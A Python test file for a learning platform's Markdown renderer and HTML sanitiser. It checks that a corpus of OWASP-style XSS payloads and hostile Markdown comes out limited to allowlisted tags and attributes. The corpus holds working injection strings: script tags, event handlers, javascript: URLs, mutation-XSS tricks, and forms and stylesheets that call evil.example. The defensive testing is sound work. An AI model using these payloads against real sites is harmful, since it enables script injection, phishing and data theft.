"""B01, B02, B04, B06, B07: what an author may not put into a page, by Markdown or by HTML."""

from typing import Any

import html5lib
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from lms.core.markdown import render, sanitise

# Written for this test after the families of OWASP's filter evasion list.
CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"media/a.svg\" onerror='alert(1)'>",
    "<img src=javascript:alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<math href='javascript:alert(1)'>x</math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='/auth/logout'>x</a>",
    "<a href='https:\\\\evil.example'>x</a>",
    "<iframe src='https://evil.example/'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(//evil.example)}</style>",
    "<p style='position:fixed;inset:0;background:url(//evil.example)'>x</p>",
    "<div class='hero page top' style='position:fixed'>x</div>",
    "<form action='https://evil.example/'><input name=password type=password><button>Sign in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<select><option>x</select><textarea>x</textarea>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "<p id=csrf_token>x</p>",
    "<img name=getElementById src=media/a.svg><a id=location href=https://a.example/>x</a>",
    "<a name=cookie href='https://a.example/'>x</a>",
    "<div role=alert tabindex=5 aria-label=x>x</div>",
    "<div role=dialog aria-modal=true>x</div>",
    "<p lang='\"><script>alert(1)</script>'>x</p>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a title='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<title><img src=x onerror=alert(1)></title>",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title='</xmp><img src onerror=alert(1)>'></xmp>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x onload=alert(1)>",
    "<p><a href='https://a.example/' onclick=alert(1) target=_blank>x</a></p>",
    "<img src='../../../etc/passwd'><img src='media/../../x'><img src='media/..%2fx'>",
    "<img srcset='https://evil.example/x 1x' src='https://evil.example/x.png'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<b onmouseover=alert(1)>x</b>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "\x00<script>alert(1)</script>",
    "<table background='javascript:alert(1)'><td background=x>x</table>",
]
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:alert)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<https://a.example/\"onmouseover=alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    '![x](../media/a.svg "\\"><script>alert(1)</script>")',
    "[x](https://a.example/ \"onclick=alert(1)\")",
    "$$\\href{javascript:alert(1)}{x}$$",
    "{{7*7}} ${7*7} #{7*7}",
    "```<script>\nalert(1)\n```",
    "| <script>alert(1)</script> | b |\n|--|--|\n| <img src=x onerror=alert(1)> | y |",
    "::: note \" onclick=alert(1)\nx\n:::",
    "https://a.example/\"onmouseover=alert(1)",
]  # fmt: skip
_TAGS = {
    "a", "aside", "blockquote", "br", "code", "del", "div", "em", "figcaption", "figure", "h2", "h3", "h4", "h5", "h6",
    "hr", "img", "li", "ol", "p", "picture", "pre", "s", "source", "span", "strong", "sub", "sup", "table", "tbody",
    "td", "th", "thead", "tr", "ul",
}  # fmt: skip
_ATTRIBUTES = {
    "alt", "aria-label", "class", "dir", "height", "href", "lang", "loading", "rel", "role", "scope", "sizes", "src",
    "srcset", "start", "tabindex", "type", "width",
}  # fmt: skip


def elements(html: str) -> list[Any]:
    """What a browser's parser makes of it."""
    fragment = html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False)
    return [element for element in fragment.iter() if element is not fragment and isinstance(element.tag, str)]


def assert_harmless(html: str) -> None:
    for element in elements(html):
        assert element.tag in _TAGS, element.tag
        for name, value in element.attrib.items():
            assert name in _ATTRIBUTES, name
            if name == "href":
                assert value.lower().startswith(("http://", "https://", "mailto:"))
                assert element.attrib["rel"] == "noopener noreferrer"
            if name in ("src", "srcset"):
                addresses = value.split(", ") if name == "srcset" else [value]
                assert all(address.startswith(("media/", "../../media/")) for address in addresses)
                assert not any("/../" in address.removeprefix("../../") for address in addresses)
            if name == "class":
                assert set(value.split()) <= {
                    "callout", "callout-try", "callout-remember", "callout-note", "callout-dated", "callout-example",
                    "callout-title", "table-box", "n",
                }  # fmt: skip


@pytest.mark.parametrize("payload", CORPUS)
def test_b01_b06_b07_hostile_html_comes_out_harmless(payload: str) -> None:
    assert_harmless(sanitise(payload))
    assert_harmless(sanitise(f"<p>before {payload} after</p>"))


@pytest.mark.parametrize("payload", CORPUS)
def test_b02_sanitising_twice_changes_nothing_more(payload: str) -> None:
    once = sanitise(payload)
    assert sanitise(once) == once


@pytest.mark.parametrize("payload", CORPUS + MARKDOWN)
def test_b01_b04_hostile_markdown_comes_out_harmless(payload: str) -> None:
    html = render(payload, language="en").html
    assert_harmless(html)
    assert sanitise(html) == html


# A link opened inside a table inside a link takes two passes to settle.
@example(
    payloads=[
        "<a href='javascript:alert(1)'>x</a>",
        "<table background='javascript:alert(1)'><td background=x>x</table>",
        "<a href='javascript:alert(1)'>x</a>",
        "<script>alert(1)</script>",
    ],
    cut=7,
)
@given(st.lists(st.sampled_from(CORPUS), min_size=1, max_size=4), st.integers(0, 40))
@settings(max_examples=150, deadline=None)
def test_b02_pieces_of_payloads_joined_come_out_harmless_and_stable(payloads: list[str], cut: int) -> None:
    once = sanitise("".join(payload[cut:] + payload[:cut] for payload in payloads))
    assert_harmless(once)
    assert sanitise(once) == once


def test_what_the_renderer_makes_passes_unchanged() -> None:
    text = "## A\n\n| a | b |\n|--|--:|\n| 1 | 2 |\n\n::: dated\nx\n:::\n\n3. three\n\n> q\n\n[l](https://a.example/)"
    html = render(text, language="en").html
    assert 'class="callout callout-dated"' in html and 'class="n"' in html and 'start="3"' in html
    assert sanitise(html) == html
